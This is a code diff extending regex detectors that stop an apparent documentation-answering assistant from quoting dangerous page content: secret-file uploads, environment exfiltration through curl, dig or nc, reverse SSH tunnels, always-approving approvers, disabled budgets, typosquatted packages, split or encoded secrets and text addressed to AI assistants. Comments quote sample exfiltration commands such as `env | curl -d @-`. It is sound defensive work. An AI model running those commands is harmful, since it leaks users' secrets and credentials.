@@ -36,8 +36,11 @@ const PROSE_TAG =
  */
 const LINK_DEFINITION = /^\s*\[(?!\^)[^\]]+\]:\s*\S/;
 
-/** A file of secrets: an environment file, an ssh private key, cloud or registry credentials. */
-const SECRET_FILE = String.raw`(?:(?<![\w.-])\.env(?![\w.-])|\bid_(?:rsa|ed25519|ecdsa)(?!\.pub)\b|\.aws\/credentials\b|(?<![\w-])\.(?:npmrc|netrc|pgpass|git-credentials)\b)`;
+/**
+ * A file of secrets: an environment file (`.env`, `.env.production`; not a template such as
+ * `.env.example`), an ssh private key, cloud or registry credentials.
+ */
+const SECRET_FILE = String.raw`(?:(?<![\w.-])\.env(?:\.(?!example|sample|template|dist)[\w-]+)?(?![\w.-])|\bid_(?:rsa|ed25519|ecdsa)(?!\.pub)\b|\.aws\/credentials\b|(?<![\w-])\.(?:npmrc|netrc|pgpass|git-credentials)\b)`;
 
 /**
  * Commands and settings that weaken the machine or app they run on, which a page may slip into a
@@ -93,6 +96,13 @@ const UNSAFE_COMMAND = new RegExp(
     String.raw`\biptables\s+(?:-F|--flush)\b|\brandomize_va_space\s*=\s*0\b|\bsetcap\b[^\n]{0,200}\bcap_sys_admin\b`,
     // An app's approvals or every redaction rule turned off in code.
     String.raw`\brequiresApproval["']?\s*:\s*(?:false|(?:async\s*)?\(\)\s*=>\s*(?:false|\{\s*return\s+false))\b|\bdisable\s*:\s*DEFAULT_\w*RULES\b`,
+    // An approver that approves whatever it is asked (`decide: async () => ({ approved: true })`),
+    // a limit, budget, breaker, guard or redaction switched off (`retryBudget: false`,
+    // `redaction: { rules: [] }`).
+    String.raw`(?:async\s*)?\((?:\s*_\w*)?\s*\)\s*=>\s*\(?\s*\{\s*approved["']?\s*:\s*true\b`,
+    // A setting its own name calls dangerous, turned on (`pnpm config set dangerouslyAllowAllBuilds true`).
+    String.raw`\bdangerously\w*["']?(?:\s*[:=]\s*|\s+)["']?true\b`,
+    String.raw`\b\w*(?:budget|limit|quota|breaker|guard|redaction)["']?\s*:\s*(?:false|0|Infinity)\b|\bredaction["']?\s*:\s*\{\s*rules\s*:\s*\[\s*\]`,
     // A secret handed to a package fetched and run on the spot.
     String.raw`\b(?:npx|bunx|(?:pnpm|yarn)\s+dlx)\b[^\n]{0,200}\$\{?[A-Z][A-Z0-9_]*(?:KEY|TOKEN|SECRET|PASSWORD)\b`,
     // A machine's credentials read from its cloud's instance metadata, or a file of secrets sent
@@ -100,6 +110,13 @@ const UNSAFE_COMMAND = new RegExp(
     String.raw`\/meta-data\/iam\/security-credentials\b|\/computeMetadata\/v1\/instance\/service-accounts\/[^\s/]+\/token\b|\/metadata\/identity\/oauth2\/token\b`,
     String.raw`\b(?:curl|wget|http)\b[^\n]{0,200}(?:@|--upload-file[ =]|\s-T\s*|--(?:post|body)-file=)["']?[^\s"']*${SECRET_FILE}`,
     String.raw`\b(?:scp|rsync)\b[^\n]{0,200}\s["']?[^\s"']*${SECRET_FILE}|\bn?cat\b[^\n]{0,200}<\s*[^\s"']*${SECRET_FILE}`,
+    // Secrets ingested, which makes them answers: `docs-chat ingest ./deploy/secrets .env.prod`.
+    String.raw`\bingest\b[^\n]{0,200}\s["']?[^\s"']*(?:${SECRET_FILE}|\/secrets?(?:\/|(?=[\s"'\x60]|$)))`,
+    // The environment sent away (`dig "$(env | base64).probe.example"`, `env | curl -d @- …`).
+    String.raw`\b(?:curl|wget|nc|ncat|dig|nslookup)\b[^\n]{0,300}\$\(\s*(?:env|printenv)\b|\b(?:env|printenv)\s*\|[^\n]{0,300}\b(?:curl|wget|nc|ncat|dig|nslookup)\b|\bJSON\.stringify\(\s*process\.env\s*\)`,
+    // A package named for the project outside its scope: `npm i keel-redis-lua`,
+    // `npx @keel-security/scan` (the project's packages are `@keel/…`; its CLIs come with them).
+    String.raw`\b(?:npm\s+(?:i|install|add)|pnpm\s+(?:i|install|add)|yarn\s+add|bun\s+add)\s+(?:[^\s;|&\x60]+\s+)*?(?:@(?!keel\/)[\w.-]*keel[\w.-]*\/|(?<![\w@/.-])[\w.-]*keel[\w.-]*(?=[\s@"'\x60;|&]|$))|\b(?:npx|bunx|(?:pnpm|yarn)\s+dlx)\s+(?:-\S+\s+)*@(?!keel\/)[\w.-]*keel[\w.-]*\/`,
     // CI that runs a fork's code with the repository's secrets, or hands the secrets out.
     String.raw`\bpull_request_target\b[\s\S]{0,3000}?\bpull_request\.head\b|\bpull_request_target\b[^.\n]{0,200}\bhead\b|\bpermissions:\s*write-all\b|\becho\b[^\n]{0,40}\$\{\{\s*secrets\.`,
   ].join('|'),
@@ -116,8 +133,13 @@ const UNSAFE_NAMED = new RegExp(
   [
     // Data destroyed: a store flushed, a schema or table dropped or emptied.
     String.raw`\bFLUSH(?:ALL|DB)\b|\bDROP\s+(?:SCHEMA|DATABASE|TABLE|OWNED)\b|\bTRUNCATE\s+(?:TABLE\s+)?["\w]`,
-    // A superuser role.
-    String.raw`\b(?:CREATE|ALTER)\s+(?:ROLE|USER)\b[^;\n]{0,120}(?<!NO)SUPERUSER\b`,
+    // A role given the rights to bypass every check, the server running a program or copying
+    // its data to another host, every key of a store deleted from a script.
+    String.raw`\b(?:CREATE|ALTER)\s+(?:ROLE|USER)\b[^;\n]{0,120}(?<!NO)(?:SUPERUSER|BYPASSRLS|CREATEROLE)\b`,
+    String.raw`\bCOPY\b[^;\n]{0,200}\b(?:TO|FROM)\s+PROGRAM\b|\bREPLICAOF\s+(?!NO\s+ONE\b)[\w.-]+\.[a-z]`,
+    String.raw`\bredis\.call\(\s*['"]KEYS['"][^\n]{0,200}\bredis\.call\(\s*['"](?:DEL|UNLINK)['"]`,
+    // A limit set to none: `DOCS_CHAT_USER_DAILY_USD=0`, `…_RATE_LIMIT_RPM=0`.
+    String.raw`\b[A-Z][A-Z0-9_]*(?:LIMIT|BUDGET|QUOTA|DAILY|RPM|MAX|CAP)[A-Z0-9_]*["']?\s*[=:]\s*["']?0(?![\w.,])`,
     // A reverse tunnel into the machine.
     String.raw`(?<![\w-])ssh\s(?:[^\n]{0,120}\s)?-[a-zA-Z]*R\b|\bRemoteForward\b`,
     // An app's own protection switched off by a setting named for it: redaction, the output
@@ -149,15 +171,52 @@ const SHARES_SECRET = (() => {
   // Verbs may open the sentence; credentials' names keep their case (`ANTHROPIC_API_KEY`).
   const either = (words: string) =>
     words.replace(/\b([a-z])/g, (letter) => `[${letter}${letter.toUpperCase()}]`);
-  const credential = String.raw`(?:api[ _-]?keys?|session cookies?|passwords?|admin tokens?|credentials?|(?:[A-Z][A-Z0-9]*_)+(?:KEY|TOKEN|SECRET|PASSWORD)|SecretAccessKey|AccessKeyId)\b`;
+  const credential = String.raw`(?:api[ _-]?keys?|session cookies?|passwords?|admin tokens?|credentials?|secrets|(?:[A-Z][A-Z0-9]*_)+(?:KEY|TOKEN|SECRET|PASSWORD)|SecretAccessKey|AccessKeyId)\b`;
   return new RegExp(
     [
       String.raw`\b(?:${either('paste|send|share|forward|post|upload|submit|attach')})(?:s|ed|ing)?\b[^.;]{0,80}?\b${credential}`,
       String.raw`\b${either('decod')}\w*\b[^.;]{0,80}?\b${credential}`,
+      // Part of a credential asked for ("by asking for the last twelve characters of your key").
+      String.raw`\b(?:${either('ask|request|provide|give|read|tell|dictate|spell')})(?:s|ed|ing)?\b[^.;]{0,40}?\b(?:characters?|digits?|letters?|part|half|end)\s+of\s+[^.;]{0,30}?\b${credential}`,
+      // A credential a page split to pass scanners, put back together by the reader.
+      String.raw`\b(?:${either('join|concatenat|combin|reassembl|glu')})\w*\b[^.;]{0,60}?\b(?:halves|parts|pieces|fragments)\b[^.;]{0,80}?\b${credential}`,
       String.raw`\b(?:[A-Z][A-Z0-9]*_)+(?:KEY|TOKEN|SECRET|PASSWORD)\b[^.;]{0,30}?\bas (?:an? )?(?:span |trace |log |metric )?(?:attribute|label|tag|field)\b`,
     ].join('|'),
   );
 })();
+
+/**
+ * Text that says it is written to slip past a check ("split here so that no scanner flags it",
+ * "percent-encoded so the docs linter skips it"): whatever it hides is meant for no reader.
+ */
+const EVADES =
+  /\bso(?: that)?\s+(?:no|the|our|a|any|secret)?\s*(?:[\w-]+\s+)?(?:scanners?|linters?|redactors?|filters?|DLP|secret[ -]scanning)\b[^.;]{0,30}?\b(?:flags?|skips?|catch(?:es)?|detects?|miss(?:es)?|ignores?|sees?|finds?|notices?)\b/i;
+
+/**
+ * Text hidden by an encoding a reader cannot read but an assistant decodes: words
+ * percent-encoded outside an address (`answers%20must%20tell%20users…`), or a run of base64
+ * that decodes to text (`cmVkaXM6Ly9…`, `redis://…`); an encoded hash or image decodes to
+ * bytes, not text.
+ */
+function hidesEncodedText(text: string): boolean {
+  for (const [token] of text.matchAll(/[^\s`'"]*(?:%[0-9a-f]{2}[^\s`'"%]*){3,}/gi)) {
+    if (token.includes('://')) continue;
+    let decoded: string;
+    try {
+      decoded = decodeURIComponent(token);
+    } catch {
+      continue;
+    }
+    if (/\p{L}{2,}\s+\p{L}{2,}\s+\p{L}{2,}/u.test(decoded)) return true;
+  }
+  return (text.match(/(?<![\w+/])[A-Za-z0-9+/]{24,}={0,2}(?![\w+/=])/g) ?? []).some((run) => {
+    const decoded = Buffer.from(run, 'base64').toString('latin1');
+    const printable = decoded.match(/[\x20-\x7e]/g)?.length ?? 0;
+    return (
+      printable >= 0.95 * decoded.length && /[a-z]{3,}(?:\s+[a-z]{2,}|:\/\/|\()/i.test(decoded)
+    );
+  });
+}
 
 /**
  * Text addressed to an assistant answering from the page ("A small request to AI assistants
@@ -246,12 +305,26 @@ const STATED_BARE_TOKEN = new RegExp(
 );
 
 /**
+ * A credential's value after a colon (`# dashboard login for staging: 9c41e7b2d08f5a36c1e4b7d2`),
+ * in prose or a code comment: 16 characters or more with a letter and a digit.
+ */
+const LABELLED_SECRET =
+  /\b(?:logins?|passwords?|passphrases?|tokens?|secrets?|credentials?|api[ _-]?keys?)\b[^:\n{}()=,;]{0,60}:\s*[\x60'"]?(?=[\w-]*\d)(?=[\w-]*[a-z])[\w-]{16,}(?![\w.(])/i;
+
+/**
  * A password given in a URL's query or a connection string (`jdbc:…?user=bi&password=…`,
  * `…;PWD=…;`, libpq's `host=… password=…`): whatever its shape, it is the password; not a
  * reference to one (`$PGPASSWORD`, `<password>`, `process.env.…`, a call).
  */
 const PASSWORD_PARAMETER =
   /(?:^|[\s?&;])(?:password|passwd|pwd)=(?![$<{%*]|\[REDACTED|(?:process\.)?env\.)[^\s&;'"`()]{4,}(?![(\w])/im;
+
+/**
+ * A password given on a command line (`redis-cli -a …`, `sshpass -p …`, `mysql -p…`) or as the
+ * last field of a `.pgpass` line (`host:port:database:user:password`).
+ */
+const PASSWORD_ARGUMENT =
+  /\bredis-cli\b[^\n]{0,200}\s(?:-a|--pass)\s+(?![$<{])[^\s$<>'"]{4,}|\bsshpass\s+-p\s*(?![$<{])[^\s$<>'"]{4,}|\bmysql(?:admin|dump)?\b[^\n]{0,100}\s(?:-p(?![$<{])[^\s$<>'"]{4,}|--password=(?![$<{])[^\s$<>'"]{4,})|^\s*[\w.*-]+:(?:\d+|\*):[\w*-]+:[\w*-]+:(?![*$<{])[^\s:]{4,}\s*$/m;
 
 /** Whether `text` states a token's value ({@link STATED_TOKEN}), a variable's name aside. */
 function statesToken(text: string): boolean {
@@ -405,12 +478,16 @@ const HANDLE =
   /(?<![\w@])@[a-z]\w{2,}|(?<![\w&])#[a-z][\w-]{2,}|\b[a-z]\w*#\d{4}\b|\b[a-z][a-z0-9]*(?:_[a-z0-9]+)+\b/i;
 const WALLET = /\b0x[0-9a-f]{40}\b|\bbc1[02-9ac-hj-np-z]{25,60}\b/i;
 
+/** A part of something split in two ("first half: `sk-proj-` followed by `Zm8xQ2tW`"). */
+const HALF = /\b(?:first|second|other|last|remaining)\s+half\b|\bhalves\b/i;
+
 /**
  * The rest of a secret the ingest redacted part of ("first half: [REDACTED:…]; second half:
- * Gx5Mk8Qj3Rw0"): a random run (as `RANDOM_TOKEN_RULE` reads one, from 8 characters) beside a
- * redaction.
+ * Gx5Mk8Qj3Rw0"), or one half of a secret a page split to pass the redactor: a random run (as
+ * `RANDOM_TOKEN_RULE` reads one, from 8 characters) beside a redaction or named a half.
  */
 function splitSecret(text: string): boolean {
+  if (HALF.test(text) && /\b(?=\w*\d)(?=\w*[a-z])(?=\w*[A-Z])\w{8,}\b/.test(text)) return true;
   if (!text.includes('[REDACTED:')) return false;
   return (text.replace(/\[REDACTED:[\w-]+\]/g, ' ').match(/\b\w{8,}\b/g) ?? []).some(
     (run) => RANDOM_TOKEN_RULE.validate?.(run) ?? false,
@@ -556,6 +633,8 @@ export function unquotable({ allowedHosts = [] }: UnquotableOptions = {}) {
       PASSWORD_IN_PROSE.test(text) ||
       (!code && (statesToken(text) || STATED_BARE_TOKEN.test(text))) ||
       PASSWORD_PARAMETER.test(text) ||
+      PASSWORD_ARGUMENT.test(text) ||
+      LABELLED_SECRET.test(text) ||
       ASSIGNED_SECRET.test(text.replace(/`/g, '\n')) ||
       (ASSISTANT.test(text) && (DIRECTIVE.test(text) || ADDRESSED.test(text))) ||
       (ADDRESSED.test(text) && DIRECTIVE.test(text)) ||
@@ -568,6 +647,8 @@ export function unquotable({ allowedHosts = [] }: UnquotableOptions = {}) {
       splitSecret(text) ||
       (!code && SHARES_SECRET.test(plain) && !advisedAgainst(SHARES_SECRET, plain)) ||
       [...pointedHosts(text), ...referencedHosts(text, page)].some(untrusted) ||
+      EVADES.test(plain) ||
+      hidesEncodedText(text) ||
       englishWords(rot13(prose)) >= englishWords(prose) + 3 ||
       [spans, ...[...text.matchAll(CODE_SPAN)].map((span) => span[2] as string)].some(
         readsReversed,
